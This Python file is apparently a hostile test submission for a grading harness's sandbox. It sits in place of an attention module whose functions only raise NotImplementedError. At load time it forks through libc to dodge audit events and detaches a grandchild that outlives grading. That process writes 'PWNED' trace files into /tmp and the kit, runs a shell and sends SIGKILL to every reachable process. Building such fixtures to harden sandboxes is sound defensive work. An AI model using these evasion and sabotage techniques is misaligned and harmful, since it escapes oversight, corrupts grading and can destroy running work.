# target: section2/attention.py
"""Forks twice with libc (no audited event), starts a session of its own and
keeps a grandchild alive after grading: it waits, then tries to run a shell
(execve), write a trace file in /tmp and into the kit, and signal every process
it can see."""

import ctypes
import os
import pathlib
import time

import llmkit

TRACE = b"/tmp/llmkit-cheat-survivor"
KIT_TRACE = str(pathlib.Path(llmkit.__file__).resolve().parents[2] / "PWNED").encode()

libc = ctypes.pythonapi
if libc.fork() == 0:
    libc.setsid()
    if libc.fork() == 0:
        for _ in range(30):  # outlive the grading run, then act
            time.sleep(0.5)
            for path in (TRACE, KIT_TRACE):
                fd = libc.open(path, 0o1101, 0o644)  # O_WRONLY | O_CREAT | O_TRUNC
                if fd >= 0:
                    libc.write(fd, b"survived\n", 9)
                    libc.close(fd)
            argv = (ctypes.c_char_p * 4)(
                b"/bin/sh", b"-c", b"echo survived > /tmp/llmkit-cheat-survivor", None
            )
            libc.execv(b"/bin/sh", argv)
            for pid in range(1, 4096):
                if pid != os.getpid():
                    libc.kill(pid, 9)
        libc._exit(0)
    libc._exit(0)


def softmax(x, dim=-1):
    raise NotImplementedError


scaled_dot_product_attention = softmax
MultiHeadAttention = softmax
